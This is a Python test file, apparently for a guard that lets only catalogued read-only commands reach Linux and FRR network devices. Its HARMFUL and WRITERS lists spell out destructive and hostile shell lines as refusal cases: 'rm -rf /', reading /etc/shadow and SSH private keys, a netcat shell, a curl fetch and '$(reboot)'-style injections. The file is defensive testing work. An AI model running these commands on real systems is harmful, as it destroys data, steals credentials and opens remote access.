"""What may be sent: all that the catalogue builds, and nothing that does more than read."""

from __future__ import annotations

import re
from contextlib import suppress
from ipaddress import ip_address

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from collectors.guard import fences as guard
from collectors.guard import shell_words
from collectors.model.evidence import Query, QueryParams, Question
from collectors.model.flow import Flow
from collectors.model.grammar import Grammar, Program, Unclear
from collectors.model.platform import Platform
from collectors.platforms.frr import FRR
from collectors.platforms.linux import LINUX
from tests.collectors.asked import FLOWS, full

LINUXES = pytest.mark.parametrize("platform", [LINUX, FRR], ids=lambda one: one.name)


@LINUXES
def test_what_is_asked_at_login_may_be_sent(platform: Platform) -> None:
    login = platform.login
    assert login.rights and login.clock and login.elevation
    asked = [login.rights.command, login.clock.command, login.elevation.test]
    assert [guard.refusal(command.encode(), platform) for command in asked] == [None] * 3


def test_nothing_may_be_sent_to_a_platform_without_programs() -> None:
    assert guard.refusal(b"echo", Platform("quiet", "Quiet", "linux"))


def test_a_line_of_a_network_system_is_one_command() -> None:
    programs = {"show": Program("shows what the system knows")}
    system = Platform("net", "Net", "linux", grammar=Grammar(programs))
    assert guard.refusal(b"show ip route", system) is None
    for harmful in (b"show x | redirect flash:y", b"show x;reload", b"reload", b"show `reload`"):
        assert guard.refusal(harmful, system)


SYSTEM = Platform(
    "net",
    "Net",
    "linux",
    grammar=Grammar(
        {
            "show": Program("shows what the system knows"),
            "look": Program("prints what matches", characters="=,"),
        }
    ),
)


@pytest.mark.parametrize(
    "text",
    [
        "show ip route 10.0.0.0/8",
        "show ipv6 route 2001:db8::/32",
        "show interface Gi0/0/1.100 details-all",
        "look proto=tcp,udp",
    ],
)
def test_names_addresses_and_interfaces_are_plain(text: str) -> None:
    assert guard.refusal(text.encode(), SYSTEM) is None


@pytest.mark.parametrize(
    "text",
    [
        "show where comment=[/system reboot]",
        "show file=x",
        "show x=y",
        "look [/system reboot]",
        "look !reload",
        "show @script",
        "show x ^ reload",
        "show ?",
        "show *",
        "show %x",
        "show ~",
        "show a,b",
        "show x + y",
    ],
)
def test_no_other_character_is_let_through_unless_its_program_names_it(text: str) -> None:
    assert "it holds" in (guard.refusal(text.encode(), SYSTEM) or "")


@given(st.text(alphabet=[chr(code) for code in range(32, 127)], min_size=1, max_size=40))
def test_what_passes_on_a_network_system_is_words_and_nothing_else(rest: str) -> None:
    if guard.refusal(f"show {rest}".encode(), SYSTEM) is None:
        assert re.fullmatch(r"[\w.:/ -]+", rest, re.ASCII)


def test_only_the_command_of_this_very_question() -> None:
    linux = LINUX
    asked = Query("fw-a", Question.ROUTE_CHOICE, QueryParams(flow=FLOWS[0]))
    other = linux.answers[Question.ROUTE_CHOICE].command(QueryParams(flow=FLOWS[2]))
    assert other is not None
    assert (
        guard.refusal(other.encode(), linux, asked)
        == "it is not the command of linux for route-choice"
    )
    nothing = Query("fw-a", Question.ROUTE_CHOICE, QueryParams())
    assert guard.refusal(other.encode(), linux, nothing) == "linux has no command for route-choice"
    with pytest.raises(guard.Forbidden, match="not the command"):
        guard.check(other.encode(), linux, asked)


HARMFUL = [
    "rm -rf /",
    "ip route add 1.2.3.4 via 5.6.7.8",
    "ip -4 route del default",
    "ip -j route flush cache",
    "ip link set eth0 down",
    "ip -s -s neigh flush all",
    "ip addr add 10.0.0.1/8 dev lo",
    "ip netns exec other reboot",
    "ip -batch /tmp/changes",
    "echo \"route add default via 1.2.3.4\" | ip -batch -",
    "sh -c 'ip rule; rm x'",
    "sh -c 'x=$(reboot)'",
    "sh -c 'echo \"$(reboot)\"'",
    "sh -c 'for i in 1 2; do reboot; done'",
    "sh -c 'if reboot; then true; fi'",
    "sh -c 'f() { reboot; }; f'",
    "sh -c 'cat x | sh'",
    "sh",
    "bash -c 'sh -c \"reboot\"'",
    "ip -j route get 1.1.1.1; reboot",
    "ip -j addr & reboot",
    "ip -j addr && reboot",
    "ip -j addr | tee /etc/passwd",
    "ip -j addr $(reboot)",
    "ip -j addr `reboot`",
    "ip -j addr > /etc/passwd",
    "ip -j addr >> /tmp/x",
    "ip -j addr < /etc/shadow",
    "ip -j addr << EOF",
    "ip -j addr # and",
    "ip \\-j addr",
    "tc qdisc add dev eth0 root netem loss 5%",
    "tc -b /tmp/queues",
    "tc qdisc show dev eth0",
    "nft flush ruleset",
    "nft -f /tmp/rules",
    "nft -j add table x",
    "nft reset counters",
    "conntrack -D",
    "conntrack -F",
    "conntrack -L -z",
    "sudo -n conntrack -U -m 1",
    "sudo reboot",
    "sudo -n sh",
    "sudo -u other id",
    "conntrackd -s -k",
    "sysctl -w net.ipv4.ip_forward=1",
    "sysctl -p",
    "vtysh -c \"configure terminal\"",
    "vtysh -c \"show run\" -c \"clear ip bgp *\"",
    "vtysh -c \"show run | include x\"",
    "vtysh",
    "tcpdump -w /tmp/x -c 5",
    "tcpdump -w -",
    "tcpdump -w - -c 5 -z reboot",
    "ss -K dst 1.1.1.1",
    "ss --kill",
    "ss -tKn",
    "dmesg -C",
    "dmesg --clear",
    "journalctl --vacuum-size=1",
    "iptables -F",
    "iptables-restore",
    "dd if=/dev/zero",
    "kill 1",
    "cat /etc/shadow",
    "cat /proc/../etc/shadow",
    "cat ../../etc/shadow",
    "tail -n 5 /var/log/../../root/.ssh/id_ed25519",
    "grep x /root/.ssh/id_rsa",
    "tail /etc/passwd",
    "python3 -c \"import os\"",
    "python3",
    "nc -l 5",
    "nc -n -z -e sh 1.1.1.1 5",
    "nc 1.1.1.1 5",
    "timeout 5 reboot",
    "timeout -k 5 6 reboot",
    "exec reboot",
    "command reboot",
    "eval reboot",
    "PATH=/tmp reboot",
    "curl http://203.0.113.1/x",
    "write memory",
    "configure terminal",
    "sh -c 'unclosed",
    "echo \"unclosed",
    "echo $(unclosed",
    "echo ${x:-$(reboot)}",
    "echo \"`reboot`\"",
    "echo $((`reboot`))",
    "echo $(( $(reboot) ))",
    "cat /proc/{1,../etc/shadow}",
    "cat {/proc/1,/etc/shadow}",
    "cat ~/.ssh/id_rsa",
    " ",
]  # fmt: skip


@LINUXES
@pytest.mark.parametrize("text", HARMFUL)
def test_what_does_more_than_read_is_refused(text: str, platform: Platform) -> None:
    assert guard.refusal(text.encode(), platform)


@pytest.mark.parametrize(
    "raw",
    [b"ip addr\nreboot", b"ip addr\0", b"ip addr\x1b[2J", b"ip addr\r", "ip äddr".encode(), b""],
)
def test_only_printable_bytes(raw: bytes) -> None:
    assert guard.refusal(raw, LINUX)


def test_only_so_much() -> None:
    assert guard.refusal(b"echo " + b"x" * guard.LONGEST, LINUX) == "it is longer than 100000 bytes"


def test_nesting_ends_somewhere() -> None:
    with pytest.raises(Unclear, match="too deeply"):
        shell_words.read("$(" * 12 + "id" + ")" * 12)


def test_words_files_and_functions_of_a_script() -> None:
    script = shell_words.read(
        "sh -c 'f() { id -u; }; x=$(uname -n); test -n \"$x\" && f 2>/dev/null'"
    )
    assert ("id", "-u") in script.commands and ("uname", "-n") in script.commands
    assert script.functions == {"f"} and script.files == ["/dev/null"]


WRITERS = [
    "reboot",
    "rm -rf /",
    "nft flush ruleset",
    "ip link set lo down",
    "conntrack -F",
    "tee /etc/passwd",
]
JOINTS = [";", "&&", "||", "|", "&", " ; ", "\n"]


@given(
    st.sampled_from(sorted(Question)),
    st.sampled_from(FLOWS),
    st.sampled_from(WRITERS),
    st.sampled_from(JOINTS),
    st.booleans(),
)
def test_nothing_harmful_rides_along(
    question: Question, flow: Flow, writer: str, joint: str, first: bool
) -> None:
    command = LINUX.answers[question].command(full(flow))
    assume(command is not None)
    whole = f"{writer}{joint}{command}" if first else f"{command}{joint}{writer}"
    assert guard.refusal(whole.encode(), LINUX)


@given(
    st.sampled_from(sorted(Question)),
    st.sampled_from(FLOWS),
    st.integers(0, 2000),
    st.integers(0, 255),
)
def test_one_changed_byte_is_not_of_the_catalogue(
    question: Question, flow: Flow, at: int, byte: int
) -> None:
    params = full(flow)
    command = LINUX.answers[question].command(params)
    assume(command is not None)
    raw = bytearray((command or "").encode())
    at %= len(raw)
    assume(raw[at] != byte)
    raw[at] = byte
    assert guard.refusal(bytes(raw), LINUX, Query("x", question, params))


@given(st.binary(max_size=200))
def test_any_bytes_are_judged_without_a_crash(raw: bytes) -> None:
    guard.refusal(raw, LINUX)


@given(st.text(alphabet="ipshc-'\"$(){};|&<>= /0", max_size=60))
def test_any_shell_is_judged_without_a_crash(text: str) -> None:
    guard.refusal(text.encode(), LINUX)


HOSTILE = st.text(min_size=1, max_size=30).filter(lambda text: not text.isalnum())


@given(HOSTILE)
def test_hostile_names_never_reach_a_command(name: str) -> None:
    params = QueryParams(flow=FLOWS[0], iif=name, interface=name, address=ip_address("192.0.2.1"))
    commands: dict[Question, str | None] = {}
    for question in Question:
        with suppress(ValueError):
            commands[question] = LINUX.answers[question].command(params)
    assert any(commands.values()), "some questions do not need the name"
    for question, command in commands.items():
        assert (
            command is None
            or guard.refusal(command.encode(), LINUX, Query("x", question, params)) is None
        )
